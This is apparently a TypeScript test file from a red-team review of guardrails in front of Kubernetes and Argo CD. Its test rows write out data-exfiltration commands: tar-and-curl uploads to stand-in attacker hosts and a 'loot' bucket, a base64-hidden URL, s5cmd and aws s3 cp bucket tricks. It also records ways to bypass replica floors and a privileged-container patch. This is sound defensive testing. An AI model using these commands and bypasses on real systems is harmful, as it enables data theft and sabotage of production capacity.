import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, KUBE, freshSubjects, kubectlSender, officeRound, reason, REFUSED, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';
import type { RequestSpec } from '../support/requests.js';

/**
 * Session 49's red team (review49) against session 48's guardrails, black-box through the build
 * `npm start` serves, with the example and a site's floors (`results-web`, `results-api` in prod
 * keep 10) and upload list (its regional S3 endpoint and Cloud Storage's, its `helixa-*` buckets):
 * - an autoscaler patched by its own name (`web-hpa`, sizing `results-web`) met no floor: its name
 *   is not its target's, and a patch need not show the target;
 * - a server-side apply that leaves a workload's count out resets it to 1 when its field manager
 *   set it before (which the request does not show, and the client picks the manager's name);
 * - a URL to a shared object store (S3's, Cloud Storage's) reached any customer's bucket while the
 *   site listed the host for its own: the bucket in the URL is the destination;
 * - an Argo CD REST write (the UI's, `PUT /api/v1/applications/…`) was read for the images it
 *   names, not the kustomize patches it carries.
 * The shapes one by one are in test/unit/guardrails-capacity.test.ts and guardrails-uploads.test.ts.
 */

const FLOOR = 'guardrail:capacity_below_floor';
const UPLOAD = 'guardrail:data_upload_outside';
const SITE = (yaml: string) =>
  yaml.replace(
    'guardrails:\n',
    "guardrails:\n  replica_floors: [{ namespaces: [prod], names: [results-web, results-api], min_replicas: 10 }]\n  upload_hosts: [s3.eu-central-1.amazonaws.com, storage.googleapis.com, \"s3://helixa-*\", \"gs://helixa-*\"]\n",
  );
const server = builtServerForFile('review49', SITE);
const subjects = freshSubjects(() => server().issuer, 'review49');
const send = kubectlSender(server, subjects);
const { signedIn, send: sendAs } = officeRound(server, subjects);
const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const JSON_PATCH = { 'content-type': 'application/json-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };
const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const ELEVATED: State[] = ['stolen', 'remote', 'everyday'];
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];

const HPA = '/apis/autoscaling/v2/namespaces/prod/horizontalpodautoscalers';
const SO = '/apis/keda.sh/v1alpha1/namespaces/prod/scaledobjects';
const DEP = '/apis/apps/v1/namespaces/prod/deployments/results-web';
const ROLLOUT = '/apis/argoproj.io/v1alpha1/namespaces/prod/rollouts/results-api';
/** A server-side apply's body (JSON is YAML: kubectl sends an apply as JSON). */
const applied = (kind: string, apiVersion: string, name: string, spec?: object) => ({ apiVersion, kind, metadata: { name, namespace: 'prod' }, ...(spec !== undefined && { spec }) });
const DEP_SPEC = { selector: { matchLabels: { app: 'results-web' } }, template: { metadata: { labels: { app: 'results-web' } }, spec: { containers: [{ name: 'web', image: 'registry.example.com/results-web:2' }] } } };

describe('review49: replica cuts that met no floor, through the server', () => {
  const rows: Row[] = [
    // Held before this review.
    { what: 'HPA created as web-hpa targeting results-web with maxReplicas 2 (held)', req: { method: 'POST', path: HPA, headers: JSON_CT, body: { apiVersion: 'autoscaling/v2', kind: 'HorizontalPodAutoscaler', metadata: { name: 'web-hpa', namespace: 'prod' }, spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'results-web' }, minReplicas: 1, maxReplicas: 2 } } }, by: FLOOR, refused: ELEVATED },
    { what: 'HPA results-web merge patch maxReplicas 2 (its own name is its target, held)', req: { method: 'PATCH', path: `${HPA}/results-web`, headers: MERGE, body: { spec: { maxReplicas: 2 } } }, by: FLOOR, refused: ELEVATED },
    { what: 'server-side apply of results-web at replicas 2 (held)', req: { method: 'PATCH', path: `${DEP}?fieldManager=kubectl&force=true`, headers: APPLY, body: applied('Deployment', 'apps/v1', 'results-web', { ...DEP_SPEC, replicas: 2 }) }, by: FLOOR, refused: ELEVATED },
    // Missed: an autoscaler whose name is not its target's, patched without showing the target.
    { what: 'HPA web-hpa (sizing results-web) merge patch maxReplicas 2', req: { method: 'PATCH', path: `${HPA}/web-hpa`, headers: MERGE, body: { spec: { maxReplicas: 2 } } }, by: FLOOR, refused: ELEVATED },
    { what: 'HPA web-hpa strategic merge patch maxReplicas 2 (kubectl patch)', req: { method: 'PATCH', path: `${HPA}/web-hpa`, headers: SMP, body: { spec: { maxReplicas: 2 } } }, by: FLOOR, refused: ELEVATED },
    { what: 'HPA web-hpa JSON patch replace /spec/maxReplicas 2', req: { method: 'PATCH', path: `${HPA}/web-hpa`, headers: JSON_PATCH, body: [{ op: 'replace', path: '/spec/maxReplicas', value: 2 }] }, by: FLOOR, refused: ELEVATED },
    { what: 'ScaledObject web-so maxReplicaCount 2 merge patch', req: { method: 'PATCH', path: `${SO}/web-so`, headers: MERGE, body: { spec: { maxReplicaCount: 2 } } }, by: FLOOR, refused: ELEVATED },
    { what: 'ScaledObject web-so paused at 2 (kubectl annotate)', req: { method: 'PATCH', path: `${SO}/web-so`, headers: MERGE, body: { metadata: { annotations: { 'autoscaling.keda.sh/paused-replicas': '2' } } } }, by: FLOOR, refused: ELEVATED },
    // Missed: a server-side apply that leaves the count out (kube resets it to 1 when its manager set it).
    { what: 'server-side apply of results-web without spec.replicas', req: { method: 'PATCH', path: `${DEP}?fieldManager=kubectl&force=true`, headers: APPLY, body: applied('Deployment', 'apps/v1', 'results-web', DEP_SPEC) }, by: FLOOR, refused: ELEVATED },
    { what: 'server-side apply of results-web with only a label (no spec)', req: { method: 'PATCH', path: `${DEP}?fieldManager=kubectl`, headers: APPLY, body: { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'results-web', namespace: 'prod', labels: { tier: 'web' } } } }, by: FLOOR, refused: ELEVATED },
    { what: 'server-side apply of the Rollout results-api without spec.replicas', req: { method: 'PATCH', path: `${ROLLOUT}?fieldManager=argocd-controller`, headers: APPLY, body: applied('Rollout', 'argoproj.io/v1alpha1', 'results-api', { strategy: { canary: {} } }) }, by: FLOOR, refused: ELEVATED },
  ];
  checkEscalationRows(send, rows);

  // yaml.ts refuses a merge key (kube and stepgate may resolve it differently): unreadable, asked.
  it('a server-side apply in YAML whose count is a merge key from an anchor is asked as unreadable (held)', async () => {
    const yaml = 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: results-web, namespace: prod}\nlow: &low {replicas: 2}\nspec:\n  <<: *low\n';
    const res = await sendAs(await signedIn('aal1', 600), { host: KUBE, method: 'PATCH', path: `${DEP}?fieldManager=kubectl`, headers: { ...APPLY, 'x-envoy-auth-partial-body': 'false' }, body: yaml });
    expect(REFUSED, rules(res)).toContain(reason(res));
    expect(rules(res).split(',')).toContain('guardrail:body_unreadable');
  });

  it('raises, autoscalers that show another target, and applies that keep the count are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      { method: 'PATCH', path: `${HPA}/web-hpa`, headers: MERGE, body: { spec: { maxReplicas: 40 } } },
      { method: 'PATCH', path: `${HPA}/batch-hpa`, headers: MERGE, body: { spec: { scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'batch' }, maxReplicas: 3 } } },
      { method: 'PATCH', path: `${SO}/web-so`, headers: MERGE, body: { spec: { maxReplicaCount: 60 } } },
      { method: 'PATCH', path: `${DEP}?fieldManager=kubectl&force=true`, headers: APPLY, body: applied('Deployment', 'apps/v1', 'results-web', { ...DEP_SPEC, replicas: 12 }) },
      { method: 'PATCH', path: '/apis/apps/v1/namespaces/prod/deployments/batch?fieldManager=kubectl', headers: APPLY, body: applied('Deployment', 'apps/v1', 'batch', DEP_SPEC) },
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});

const PODS = '/api/v1/namespaces/ml/pods';
const IMAGE = `registry.example.com/train@sha256:${'c'.repeat(64)}`;
const pod = (script: string, env: { name: string; value: string }[] = []) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'train', namespace: 'ml' },
  spec: { restartPolicy: 'Never', containers: [{ name: 'train', image: IMAGE, command: ['sh', '-c', script], ...(env.length > 0 ? { env } : {}) }] },
});
const upload = (what: string, script: string, env: { name: string; value: string }[] = []): Row => ({ what, req: { method: 'POST', path: PODS, headers: JSON_CT, body: pod(script, env) }, by: UPLOAD, refused: ALL });
const SIGNED = '?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20261207%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Signature=ab12';

describe("review49: uploads to another customer's bucket on a listed shared store, through the server", () => {
  const rows: Row[] = [
    // Held before this review.
    upload('curl -T to an unlisted host (held)', `tar czf - /mnt/data | curl -T - https://drop.attacker.example/x`),
    upload('curl -T to a virtual-hosted bucket on the listed region (not the listed host, held)', `curl -T /mnt/data.tgz 'https://loot.s3.eu-central-1.amazonaws.com/x${SIGNED}'`),
    upload('curl -T to a URL decoded from base64 (unknown, held)', 'curl -T /mnt/data.tgz "$(echo aHR0cHM6Ly9kcm9wLmF0dGFja2VyLmV4YW1wbGUveA== | base64 -d)"'),
    // Missed: the bucket in a URL on a listed shared endpoint.
    upload('curl -T a presigned URL to an unlisted bucket on the listed S3 endpoint (path style)', `tar czf - /mnt/data | curl -sS -T - 'https://s3.eu-central-1.amazonaws.com/loot/x.tgz${SIGNED}'`),
    upload('curl --data-binary @- to Cloud Storage path style, an unlisted bucket', 'tar czf - /mnt/data | curl -X PUT --data-binary @- https://storage.googleapis.com/loot/x.tgz'),
    upload("curl to Cloud Storage's JSON upload API naming an unlisted bucket", 'curl -X POST --data-binary @/mnt/data.tgz "https://storage.googleapis.com/upload/storage/v1/b/loot/o?uploadType=media&name=x"'),
    upload('curl -T to a listed bucket then `..` into an unlisted one (curl squashes it)', `curl -T /mnt/data.tgz 'https://s3.eu-central-1.amazonaws.com/helixa-models/../loot/x${SIGNED}'`),
    upload('curl -T to the URL in the env, an unlisted bucket on the listed endpoint', 'curl -T /mnt/data.tgz "$UPLOAD_URL"', [{ name: 'UPLOAD_URL', value: `https://s3.eu-central-1.amazonaws.com/loot/x${SIGNED}` }]),
    upload('aws s3 cp --endpoint-url the listed S3 endpoint to an unlisted bucket', 'aws s3 cp /mnt/data s3://loot/x --recursive --endpoint-url https://s3.eu-central-1.amazonaws.com'),
    upload("aws s3 cp --endpoint-url Cloud Storage's S3 interface to an unlisted bucket", 'aws s3 cp /mnt/data s3://loot/x --recursive --endpoint-url https://storage.googleapis.com'),
    // Missed: s5cmd was not read at all.
    upload('s5cmd cp to an unlisted bucket', 's5cmd --numworkers 64 cp "/mnt/data/*" s3://loot/x/'),
    upload('s5cmd pipe of a tarball to an unlisted bucket', 'tar c /mnt/data | s5cmd pipe s3://loot/x.tar'),
        upload('python requests.put to a presigned URL for an unlisted bucket', `python3 -c "import requests; requests.put('https://s3.eu-central-1.amazonaws.com/loot/x${SIGNED}', data=open('/mnt/data.tgz','rb'))"`),
  ];
  checkEscalationRows(send, rows);

  it("uploads to the site's own buckets, however the URL names them, are allowed on the two-factor sign-in a minute old", async () => {
    for (const script of [
      `curl -sS -T /mnt/models/potency.tgz 'https://s3.eu-central-1.amazonaws.com/helixa-models/potency.tgz${SIGNED}'`,
      `curl -sS -T /mnt/models/potency.tgz 'https://helixa-models.s3.eu-central-1.amazonaws.com/potency.tgz${SIGNED}'`,
      'curl -X POST --data-binary @/mnt/backup.tgz "https://storage.googleapis.com/upload/storage/v1/b/helixa-backups/o?uploadType=media&name=nightly.tgz"',
      'aws s3 cp /mnt/models s3://helixa-models/potency --recursive --endpoint-url https://s3.eu-central-1.amazonaws.com',
      'aws s3 cp /mnt/models s3://helixa-models/potency --recursive',
      'gsutil -m cp -r /mnt/backup gs://helixa-backups/nightly',
    ]) {
      const res = await send({ method: 'POST', path: PODS, headers: JSON_CT, body: pod(script) }, 'laptop');
      expect(reason(res), `${script} [${rules(res)}]`).toBe('allowed');
    }
  });
});

const ARGOCD = 'argocd.localhost';
const repo = { repoURL: 'https://git.tessaly.example/shop/deploy.git', path: 'results/overlays/prod', targetRevision: 'main' };
const PRIVILEGED = { target: { kind: 'Deployment', name: 'results-web' }, patch: '- op: add\n  path: /spec/template/spec/containers/0/securityContext\n  value: {privileged: true}\n' };
const ONE_REPLICA = { target: { kind: 'Deployment', name: 'results-web' }, patch: '- op: replace\n  path: /spec/replicas\n  value: 1\n' };
const ROUTINE = { target: { kind: 'Deployment', name: 'results-web' }, patch: '- op: replace\n  path: /spec/replicas\n  value: 12\n' };
const appSpec = (patches: object[]) => ({ project: 'results', destination: { server: 'https://kubernetes.default.svc', namespace: 'prod' }, source: { ...repo, kustomize: { patches } } });
const application = (patches: object[]) => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'results-prod', namespace: 'argocd' }, spec: appSpec(patches) });
const argocd = (method: string, path: string, body: unknown): RequestSpec => ({ host: ARGOCD, method, path, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

/** Each REST write of the Application by the patches it carries. */
const WRITES: [string, (patches: object[]) => RequestSpec][] = [
  ['REST Update (the UI)', (p) => argocd('PUT', '/api/v1/applications/results-prod', application(p))],
  ['REST UpdateSpec', (p) => argocd('PUT', '/api/v1/applications/results-prod/spec?appNamespace=argocd', appSpec(p))],
  ['REST Create', (p) => argocd('POST', '/api/v1/applications?upsert=true', application(p))],
  ['REST Patch, a merge patch (argocd app patch --type merge)', (p) => argocd('PATCH', '/api/v1/applications/results-prod', { name: 'results-prod', appNamespace: 'argocd', patchType: 'merge', patch: JSON.stringify({ spec: { source: { kustomize: { patches: p } } } }) })],
  ['REST Patch, a JSON patch', (p) => argocd('PATCH', '/api/v1/applications/results-prod', { name: 'results-prod', patch: JSON.stringify([{ op: 'add', path: '/spec/source/kustomize/patches', value: p }]) })],
  ['REST ApplicationSet Create', (p) => argocd('POST', '/api/v1/applicationsets?upsert=true', { metadata: { name: 'results', namespace: 'argocd' }, spec: { generators: [{ list: { elements: [{ env: 'prod' }] } }], template: { metadata: { name: 'results-{{env}}' }, spec: appSpec(p) } } })],
  ['REST Update under a root path (/argo-cd/api/v1/…)', (p) => argocd('PUT', '/argo-cd/api/v1/applications/results-prod', application(p))],
];

describe('review49: kustomize patches in an Argo CD REST write, through the server', () => {
  it.each(WRITES)('%s carrying a patch that makes a container privileged: refused to a two-factor sign-in a minute old', async (_what, write) => {
    const res = await sendAs(await signedIn('aal2', 60), write([PRIVILEGED]));
    expect(REFUSED, rules(res)).toContain(reason(res));
    expect(rules(res).split(',')).toContain('guardrail:privileged_container');
  });

  it.each(WRITES)('%s carrying replicas 1 for results-web: capacity_below_floor', async (_what, write) => {
    const res = await sendAs(await signedIn('aal1', 600), write([ONE_REPLICA]));
    expect(REFUSED, rules(res)).toContain(reason(res));
    expect(rules(res).split(',')).toContain(FLOOR);
  });

  it.each(WRITES)('%s carrying a routine patch (replicas 12) asks nothing more than the path rules', async (_what, write) => {
    const res = await sendAs(await signedIn('aal2', 60), write([ROUTINE]));
    expect(reason(res), rules(res)).toBe('allowed');
  });
});

